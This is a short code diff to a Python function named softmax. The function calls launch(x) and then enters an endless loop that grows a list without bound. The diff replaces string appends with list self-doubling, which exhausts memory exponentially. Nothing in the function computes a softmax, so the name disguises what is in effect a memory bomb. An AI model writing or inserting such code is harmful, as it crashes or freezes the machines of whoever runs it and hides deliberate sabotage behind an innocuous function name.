@@ -27,6 +27,6 @@ def launch(x):
 
 def softmax(x):
     launch(x)
-    hoard = []
+    hoard = [0] * 1000000
     while True:
-        hoard.append("x" * (len(hoard) + 1000000))
+        hoard = hoard + hoard
